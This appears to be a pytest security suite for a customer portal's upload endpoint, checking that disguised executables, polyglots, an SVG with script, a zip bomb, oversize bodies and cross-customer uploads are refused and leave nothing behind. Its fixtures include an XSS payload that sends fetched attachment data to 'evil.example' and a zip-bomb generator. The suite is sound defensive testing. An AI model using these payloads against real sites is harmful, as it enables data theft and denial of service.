"""The upload attack set against the real `POST /_upload` (Reflex's upload endpoint, behind the
portal's gate): a crafted client signs in, opens its own request's page over the websocket (the
upload is bound to that tab's token and to the page's upload handler, as the browser sends it) and
posts hostile files: disguised executables, polyglots, an SVG with a script, a zip bomb, HTML named
as an image, bodies over the limit (declared, and streamed without a length), too many files, and a
customer over their quota. Each is refused, and NOTHING is kept: no attachment row, no file in the
private storage or staging folder, nothing left in the server's temporary folder (where it spools
upload bodies) or held open by it, no memory spent on a bomb. Controls: a genuine PDF and PNG are
accepted and stored, so the refusals can fail."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import json
import os
import select
import socket
import struct
import zipfile
import zlib
from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa

from portal import i18n
from portal.config import DEFAULT_UPLOAD_MAX_BYTES, PROJECT_ROOT
from portal.services.access.sessions import SESSION_COOKIE
from portal.services.requests import attachments as files
from tests.e2e.conftest import db_rows
from tests.security.http_sweep import report_line
from tests.security.victims import changed_tables, snapshot
from tests.support.reflex_socket import Answer, state_event

ATTACKER, OTHER = "10093", "20417"
MB = 1024 * 1024


def _png() -> bytes:
    """A real 1×1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


def _pdf(body: bytes = b"") -> bytes:
    """A small well-formed PDF (one empty page)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    out, offsets = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    out += body
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)


def _zip(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _zip_bomb(expanded: int) -> bytes:
    """A zip whose one member expands to `expanded` zero bytes (compressed about a thousand times)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("dati.bin", "w", force_zip64=True) as member,
    ):
        block = b"\x00" * MB
        for _ in range(expanded // MB):
            member.write(block)
    return out.getvalue()


PNG, PDF = _png(), _pdf()
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 600 + b"\xff\xd9"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00" + b"\x00" * 64
EXE += b"PE\x00\x00\x4c\x01" + b"\x00" * 4000
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 4000
SCRIPT = (
    b"<script>fetch('/api/allegati/1').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script>"
)
HTML = b"<!DOCTYPE html><html><head><title>fattura</title></head><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script></svg>'


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    files: tuple[tuple[str, bytes, str], ...]  # (file name, content, the Content-Type the client claims)
    refusal: str = "attachments.bad_type"


ATTACKS = [
    Attack("exe named .pdf", (("fattura.pdf", EXE, "application/pdf"),)),
    Attack("elf named .pdf", (("contratto.pdf", ELF, "application/pdf"),)),
    Attack("exe named .jpg", (("foto.jpg", EXE, "image/jpeg"),)),
    Attack("html named .png", (("foto.png", HTML, "image/png"),)),
    Attack("svg with a script", (("logo.svg", SVG, "image/svg+xml"),)),
    Attack("svg with a script named .png", (("logo.png", SVG, "image/png"),)),
    Attack("zip named .pdf", (("documenti.pdf", _zip(**{"a.txt": b"hello"}), "application/pdf"),)),
    Attack("pdf + zip polyglot", (("doppio.pdf", PDF + _zip(**{"payload.html": HTML}), "application/pdf"),)),
    Attack("pdf + html polyglot", (("pagina.pdf", _pdf(b"% " + HTML + b"\n"), "application/pdf"),)),
    Attack("pdf opening as html", (("pagina.pdf", b"%PDF-1.4\n" + HTML + b"\n%%EOF\n", "application/pdf"),)),
    Attack("jpeg with a script appended", (("foto.jpg", JPEG + SCRIPT, "image/jpeg"),)),
    Attack("jpeg with an html body", (("foto.jpg", JPEG[:20] + HTML + b"\x00" * 200, "image/jpeg"),)),
    Attack("png with an html body", (("foto.png", PNG + HTML, "image/png"),)),
    Attack("png + zip polyglot", (("foto.png", PNG + _zip(**{"x.html": HTML}), "image/png"),)),
]


@dataclasses.dataclass
class Tally:
    attacks: int = 0
    accepted: list[str] = dataclasses.field(default_factory=list)

    def line(self, rows: int, files_left: int) -> str:
        return (
            f"upload attacks: {self.attacks} tried, accepted: {len(self.accepted)}, "
            f"rows left: {rows}, files left: {files_left}"
        )


TALLY = Tally()


# What the server keeps, seen from outside ----------------------------------------------------------


def _files_under(folder: Path) -> dict[str, int]:
    if not folder.exists():
        return {}
    return {str(p.relative_to(folder)): p.stat().st_size for p in folder.rglob("*") if p.is_file()}


def _server_pids(app) -> list[int]:
    """The app's processes (`reflex run` and the server it starts)."""
    children: dict[int, list[int]] = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        children.setdefault(int(fields[1]), []).append(int(stat.parent.name))
    found, todo = [], [app.process.pid]
    while todo:
        pid = todo.pop()
        found.append(pid)
        todo += children.get(pid, [])
    return found


def _open_temp_files(app) -> list[str]:
    """Files in the server's temporary folder its processes hold open (a spooled body, deleted or not)."""
    held = []
    for pid in _server_pids(app):
        try:
            descriptors = list(Path(f"/proc/{pid}/fd").iterdir())
        except OSError:
            continue
        for fd in descriptors:
            try:
                target = os.readlink(fd)
            except OSError:
                continue
            if target.startswith(str(app.temp_dir)):
                held.append(target)
    return held


def _rss(app) -> int:
    total = 0
    for pid in _server_pids(app):
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            continue
        total += next((int(line.split()[1]) * 1024 for line in status.splitlines() if line.startswith("VmRSS:")), 0)
    return total


@dataclasses.dataclass(frozen=True)
class Kept:
    rows: tuple[int, int]  # attachment rows: count, highest id
    private: dict[str, int]  # the private storage and staging folders
    public: dict[str, int]  # Reflex's public upload folder (the portal never writes there)
    temp: dict[str, int]  # the server's temporary folder
    held: tuple[str, ...]  # temporary files the server holds open


def _kept(app) -> Kept:
    count, top = db_rows(app, "select count(*), coalesce(max(id), 0) from request_attachment")[0]
    return Kept(
        rows=(count, top),
        private=_files_under(app.private_dir / "attachments"),
        public=_files_under(PROJECT_ROOT / "uploaded_files"),
        temp=_files_under(app.temp_dir),
        held=tuple(_open_temp_files(app)),
    )


def _nothing_kept(before: Kept, after: Kept) -> list[str]:
    return [
        f"{name}: {getattr(before, name)} -> {getattr(after, name)}"
        for name in ("rows", "private", "public", "temp", "held")
        if getattr(before, name) != getattr(after, name)
    ]


# The crafted client ----------------------------------------------------------------------------------


def _handler() -> str:
    from portal.pages.request_detail import RequestDetailState

    return state_event(RequestDetailState, "upload")


def _request_code(app, customer: str) -> str:
    return db_rows(
        app,
        "select r.code from service_request r join customer c on c.id = r.customer_id where c.code = :c order by r.id",
        c=customer,
    )[0][0]


def _open_request_page(tab, cookie: str, code: str):
    from portal.pages.request_detail import RequestDetailState

    connection = tab(cookie)
    connection.send(state_event(RequestDetailState, "load"), path="/richieste/dettaglio", query={"codice": code})
    return connection


def _post(app, cookie: str, token: str, items) -> tuple[httpx.Response, Answer]:
    """POST /_upload as the page does: the files under "files", the tab's token and the handler."""
    response = httpx.post(
        app.url("/_upload"),
        files=[("files", (name, content, kind)) for name, content, kind in items],
        headers={"Cookie": cookie, "reflex-client-token": token, "reflex-event-handler": _handler()},
        timeout=120,
    )
    answer = Answer(deltas=[], events=[])
    for line in response.text.splitlines():
        if line.strip():
            update = json.loads(line)
            if update.get("delta"):
                answer.deltas.append(update["delta"])
            answer.events.extend(update.get("events") or [])
    return response, answer


def _messages(key: str, name: str = "", **params) -> set[str]:
    return {i18n.translate(lang, key, name=name, **params) for lang in i18n.LANGUAGES}


def _staged_names(answer: Answer) -> list[str]:
    try:
        return [item["name"] for item in answer.var("attachment_names")]
    except KeyError:
        return []


@pytest.fixture
def signed(app, cookies, tab):
    """Customer A's tab on one of A's own requests: what every attack posts through."""
    cookie = cookies(ATTACKER)
    connection = _open_request_page(tab, cookie, _request_code(app, ATTACKER))
    return cookie, connection


@pytest.fixture(scope="module", autouse=True)
def _figures(request, app):
    """Nothing left by the whole module (rows, files), and the closing note's figures."""
    before = _kept(app)
    yield
    after = _kept(app)
    rows = after.rows[0] - before.rows[0]
    left = len(set(after.private.items()) - set(before.private.items())) + len(after.temp) + len(after.held)
    if TALLY.attacks:
        report_line(request.config, TALLY.line(rows, left))


# The attacks -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS, ids=[attack.name for attack in ATTACKS])
def test_hostile_files_are_refused_and_nothing_is_kept(app, signed, attack):
    cookie, connection = signed
    before = _kept(app)
    response, answer = _post(app, cookie, connection.token, attack.files)
    TALLY.attacks += 1
    names = _staged_names(answer)
    if names:
        TALLY.accepted.append(attack.name)
    assert response.status_code == 200
    assert names == [], f"{attack.name} was accepted"
    name = files.clean_display_name(attack.files[0][0])
    assert answer.var("attachment_error") in _messages(attack.refusal, name)
    assert _nothing_kept(before, _kept(app)) == []


def test_a_zip_bomb_is_neither_expanded_nor_kept(app, signed):
    """1 GiB of zeros in about a megabyte: zips are not an accepted kind, so the server reads the
    head, refuses it, and never inflates it (no memory or file near the expanded size)."""
    cookie, connection = signed
    bomb = _zip_bomb(1024 * MB)
    assert len(bomb) < 2 * MB
    before, memory = _kept(app), _rss(app)
    for name, kind in (("archivio.zip", "application/zip"), ("scansione.pdf", "application/pdf")):
        response, answer = _post(app, cookie, connection.token, [(name, bomb, kind)])
        TALLY.attacks += 1
        assert response.status_code == 200
        assert _staged_names(answer) == []
        assert answer.var("attachment_error") in _messages("attachments.bad_type", name)
    assert _rss(app) - memory < 200 * MB
    assert _nothing_kept(before, _kept(app)) == []


def _send_head(app, headers: dict[str, str]) -> tuple[int, socket.socket]:
    """Send a request's head only (its body announced, never sent) and read the status: a server that
    waited for the body before answering would time out here."""
    host, port = app.base_url.removeprefix("http://").split(":")
    sock = socket.create_connection((host, int(port)), timeout=60)
    head = f"POST /_upload HTTP/1.1\r\nHost: {host}:{port}\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers.items())
    sock.sendall((head + "\r\n").encode())
    status_line = sock.makefile("rb").readline().decode()
    return int(status_line.split()[1]), sock


def _upload_head(token: str, **extra: str) -> dict[str, str]:
    return {
        "Content-Type": "multipart/form-data; boundary=attack",
        "reflex-client-token": token,
        "reflex-event-handler": _handler(),
        **extra,
    }


def _limit(app) -> int:
    return int(app.env.get("PORTAL_UPLOAD_MAX_BYTES") or DEFAULT_UPLOAD_MAX_BYTES)


def test_an_oversize_body_without_a_session_is_refused_before_it_is_read(app, signed):
    _, connection = signed
    before = _kept(app)
    for cookie in ("", f"{SESSION_COOKIE}=forged"):
        headers = _upload_head(connection.token, **{"Content-Length": str(1024**3)})
        if cookie:
            headers["Cookie"] = cookie
        status, sock = _send_head(app, headers)
        sock.close()
        TALLY.attacks += 1
        assert status == 401
    assert _nothing_kept(before, _kept(app)) == []


def test_an_oversize_declared_body_is_refused_before_it_is_read(app, signed):
    cookie, connection = signed
    before = _kept(app)
    for length in (_limit(app) + 1, 1024**4):
        status, sock = _send_head(app, _upload_head(connection.token, Cookie=cookie, **{"Content-Length": str(length)}))
        sock.close()
        TALLY.attacks += 1
        assert status == 413
    assert _nothing_kept(before, _kept(app)) == []


def test_an_oversize_streamed_body_is_cut_off_at_the_limit(app, signed):
    """Chunked, no Content-Length: the gate counts the bytes and stops the upload at the limit;
    the server answers 413 having read no more than the limit (plus what the sockets buffer), and
    drops what it spooled."""
    cookie, connection = signed
    limit = _limit(app)
    before, memory = _kept(app), _rss(app)
    host, port = app.base_url.removeprefix("http://").split(":")
    sock = socket.create_connection((host, int(port)), timeout=60)
    head = f"POST /_upload HTTP/1.1\r\nHost: {host}:{port}\r\n" + "".join(
        f"{k}: {v}\r\n"
        for k, v in _upload_head(connection.token, Cookie=cookie, **{"Transfer-Encoding": "chunked"}).items()
    )
    part = b'--attack\r\nContent-Disposition: form-data; name="files"; filename="video.mp4"\r\n'
    part += b"Content-Type: video/mp4\r\n\r\n" + b"\x00\x00\x00\x18ftypmp42"
    sock.sendall((head + "\r\n").encode() + b"%x\r\n%s\r\n" % (len(part), part))
    block = b"\x00" * MB
    chunk = b"%x\r\n%s\r\n" % (len(block), block)
    sent, status_line = len(part), ""
    try:
        while sent < 2 * limit:
            readable, _, _ = select.select([sock], [], [], 0)
            if readable:
                break
            sock.sendall(chunk)
            sent += len(block)
    except (BrokenPipeError, ConnectionResetError):
        pass
    status_line = sock.makefile("rb").readline().decode()
    sock.close()
    TALLY.attacks += 1
    assert status_line.split()[1] == "413", status_line
    assert sent <= limit + 32 * MB, f"the server read {sent} bytes of a {limit}-byte limit"
    assert _rss(app) - memory < 200 * MB
    assert _nothing_kept(before, _kept(app)) == []


def _fake_rows(app, code: str, count: int, size: int) -> list[int]:
    """Attachment rows on the customer's request as if files had been sent (the quota counts rows)."""
    ids = []
    with app.engine.begin() as connection:
        request_id, author = connection.execute(
            sa.text("select r.id, r.created_by_id from service_request r where r.code = :code"),
            {"code": code},
        ).one()
        for _ in range(count):
            ids.append(
                connection.execute(
                    sa.text(
                        "insert into request_attachment (request_id, message_id, storage_key, display_name,"
                        " content_type, size_bytes, sha256, uploaded_by_id, created_at)"
                        " values (:r, null, :k, 'quota.pdf', 'application/pdf', :s, :h, :u, :t) returning id"
                    ),
                    {
                        "r": request_id,
                        "k": os.urandom(16).hex(),
                        "s": size,
                        "h": "0" * 64,
                        "u": author,
                        "t": dt.datetime.now(dt.UTC).replace(tzinfo=None),
                    },
                ).scalar_one()
            )
    return ids


@pytest.fixture
def fake_rows(app):
    made: list[int] = []

    def make(code: str, count: int, size: int) -> None:
        made.extend(_fake_rows(app, code, count, size))

    yield make
    if made:
        with app.engine.begin() as connection:
            connection.execute(
                sa.text(f"delete from request_attachment where id in ({', '.join(str(int(i)) for i in made)})")
            )


def test_too_many_files_in_one_upload(app, signed, tab, cookies):
    """Eleven files in one post: the reply takes five (the page's rule), the rest are refused with
    the page's count and never reach the staging folder; no row is written."""
    cookie, connection = signed
    before = _kept(app)
    photos = [(f"foto{i}.png", PNG + bytes([i]), "image/png") for i in range(11)]
    response, answer = _post(app, cookie, connection.token, photos)
    TALLY.attacks += 1
    staged = _staged_names(answer)
    assert response.status_code == 200
    assert staged == [f"foto{i}.png" for i in range(5)]
    assert answer.var("attachment_error") in _messages("attachments.too_many", count=5)
    after = _kept(app)
    assert after.rows == before.rows
    new = sorted(set(after.private) - set(before.private))
    assert len(new) == 5 and all(Path(path).name.startswith(files.owner_prefix(_customer_id(app))) for path in new)
    # the page, opened again, lets go of the files it held: nothing stays
    from portal.pages.request_detail import RequestDetailState

    code = _request_code(app, ATTACKER)
    connection.send(state_event(RequestDetailState, "load"), path="/richieste/dettaglio", query={"codice": code})
    assert _nothing_kept(before, _kept(app)) == []


def _customer_id(app, code: str = ATTACKER) -> int:
    return db_rows(app, "select id from customer where code = :c", c=code)[0][0]


def test_a_request_holding_ten_files_takes_no_more(app, signed, fake_rows):
    cookie, connection = signed
    fake_rows(_request_code(app, ATTACKER), files.QUOTA.files_per_request, 1000)
    before = _kept(app)
    response, answer = _post(app, cookie, connection.token, [("foto.png", PNG, "image/png")])
    TALLY.attacks += 1
    assert _staged_names(answer) == []
    assert answer.var("attachment_error") in _messages("attachments.too_many", count=files.QUOTA.files_per_request)
    assert _nothing_kept(before, _kept(app)) == []


def test_a_customer_over_their_quota_stores_nothing(app, signed, fake_rows):
    """The customer's requests already hold 500 MB: a small photo more is refused, unstaged."""
    cookie, connection = signed
    used = db_rows(
        app,
        "select coalesce(sum(a.size_bytes), 0) from request_attachment a join service_request r"
        " on r.id = a.request_id where r.customer_id = :c",
        c=_customer_id(app),
    )[0][0]
    other_request = db_rows(
        app,
        "select r.code from service_request r join customer c on c.id = r.customer_id"
        " where c.code = :c order by r.id desc",
        c=ATTACKER,
    )[0][0]
    fake_rows(other_request, 1, files.QUOTA.bytes_per_customer - used)
    before = _kept(app)
    response, answer = _post(app, cookie, connection.token, [("foto.png", PNG, "image/png")])
    TALLY.attacks += 1
    assert _staged_names(answer) == []
    assert answer.var("attachment_error") in _messages(
        "attachments.quota_customer", "foto.png", limit=files.QUOTA.bytes_per_customer // MB
    )
    assert _nothing_kept(before, _kept(app)) == []


def test_an_upload_on_another_customers_request_stages_nothing(app, cookies, tab, victims):
    """A's tab with B's request in its address (the page refused to open it): the upload neither
    reaches B's request nor stages anything, and nothing of B's comes back."""
    victim = victims[OTHER]
    cookie = cookies(ATTACKER)
    connection = _open_request_page(tab, cookie, victim.request_code)
    before, rows = _kept(app), snapshot(app, victim)
    response, answer = _post(app, cookie, connection.token, [("foto.png", PNG, "image/png")])
    TALLY.attacks += 1
    assert response.status_code == 200
    assert [marker for marker in victim.markers if marker in response.text] == []
    assert _staged_names(answer) == []
    assert changed_tables(rows, snapshot(app, victim)) == []
    assert _nothing_kept(before, _kept(app)) == []


def test_an_upload_to_a_tab_without_a_session_is_sent_to_the_login_page(app, cookies, tab):
    """A signed-in attacker posting to a tab that has no session: the handler turns it away."""
    connection = tab("")
    before = _kept(app)
    response, answer = _post(app, cookies(ATTACKER), connection.token, [("foto.png", PNG, "image/png")])
    TALLY.attacks += 1
    assert response.status_code == 200
    assert _staged_names(answer) == []
    # the handler's answer (the login page) reaches the tab over its websocket
    assert any(path.startswith("/login") for path in connection.collect().redirects())
    assert _nothing_kept(before, _kept(app)) == []


def test_an_upload_to_another_customers_tab(app, cookies, tab, victims):
    """A signed-in attacker posting to the token of a tab B has open. Known limit (reported, not
    fixed): Reflex runs an upload in the state of the tab its token names, and the gate checks only
    that the poster has a live session, not that it is the tab's; so whoever holds B's tab token (a
    random secret that lives only in B's browser tab) acts in B's tab: the file is staged in B's
    form under B's quota, and the answer streams that tab's deltas (B's name among them). What
    holds: no row of B's changes, and the file goes no further unless B sends the form (B's page,
    opened again, lets go of it). Binding an upload to the tab's own session is the fix."""
    from portal.pages.request_detail import RequestDetailState

    victim = victims[OTHER]
    connection = _open_request_page(tab, cookies(OTHER), victim.request_code)
    before, rows = _kept(app), snapshot(app, victim)
    response, _answer = _post(app, cookies(ATTACKER), connection.token, [("intruso.png", PNG, "image/png")])
    TALLY.attacks += 1
    assert response.status_code == 200
    assert changed_tables(rows, snapshot(app, victim)) == []
    assert _kept(app).rows == before.rows
    connection.send(
        state_event(RequestDetailState, "load"), path="/richieste/dettaglio", query={"codice": victim.request_code}
    )
    assert _nothing_kept(before, _kept(app)) == []


# The controls ---------------------------------------------------------------------------------------


def test_a_genuine_pdf_and_png_are_accepted_and_stored(app, signed, tidy):
    """The refusals above can fail: real files go through the same post, are staged, and the
    reply stores them (rows, files in storage, served back to their owner)."""
    from portal.pages.request_detail import RequestDetailState

    cookie, connection = signed
    tidy.drop_new_requests()
    before = _kept(app)
    response, answer = _post(
        app, cookie, connection.token, [("preventivo.pdf", PDF, "application/pdf"), ("foto.png", PNG, "image/png")]
    )
    assert response.status_code == 200
    assert _staged_names(answer) == ["preventivo.pdf", "foto.png"]
    staged = set(_kept(app).private) - set(before.private)
    assert len(staged) == 2
    code = _request_code(app, ATTACKER)
    connection.send(
        state_event(RequestDetailState, "reply"),
        {"form_data": {"body": "in allegato il preventivo"}},
        path="/richieste/dettaglio",
        query={"codice": code},
    )
    stored = db_rows(
        app,
        "select id, display_name, content_type, size_bytes from request_attachment where id > :m order by id",
        m=before.rows[1],
    )
    assert [row[1:] for row in stored] == [
        ("preventivo.pdf", "application/pdf", len(PDF)),
        ("foto.png", "image/png", len(PNG)),
    ]
    served = [httpx.get(app.url(f"/api/allegati/{row[0]}"), headers={"Cookie": cookie}).content for row in stored]
    assert served == [PDF, PNG]
